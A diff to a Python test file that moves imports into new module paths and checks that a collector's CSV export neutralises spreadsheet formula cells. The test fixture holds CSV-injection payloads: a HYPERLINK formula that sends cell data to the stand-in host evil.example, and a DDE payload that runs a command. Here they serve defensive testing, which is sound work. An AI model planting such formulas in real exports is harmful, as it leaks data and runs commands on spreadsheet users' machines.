@@ -13,11 +13,12 @@ from click.testing import CliRunner
 
 from api_server import running
 from collector import config as config_mod
-from collector import db, export
 from collector.api.security import MIN_TOKEN_CHARS, TokenRequired
 from collector.api.server import LIMITS, Server
 from collector.cli import cli
-from collector.drain import drain_once
+from collector.export import tabular
+from collector.ingest.drain import drain_once
+from collector.storage import db
 from replay import run_hook
 
 FORMULAS = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")", "+1+cmd|' /C calc'!A0", "-2+3",
@@ -32,13 +33,13 @@ def test_csv_export_neutralises_formula_cells(home):
     conn = db.connect(config.db_path)
     assert drain_once(conn, config)["events"] == 7
     out = io.StringIO()
-    export.export(conn, out, fmt="csv", what="messages")
+    tabular.export(conn, out, fmt="csv", what="messages")
     rows = list(csv.DictReader(io.StringIO(out.getvalue())))
     cells = sorted(r["content"] for r in rows)
     assert cells == sorted(["'" + f for f in FORMULAS] + ["plain text", "a = b"])
     # JSON keeps the text as it was: only a spreadsheet runs formulas.
     out = io.StringIO()
-    export.export(conn, out, fmt="json", what="messages")
+    tabular.export(conn, out, fmt="json", what="messages")
     assert sorted(m["content"] for m in json.loads(out.getvalue())) == sorted(FORMULAS + ["plain text", "a = b"])
 
 
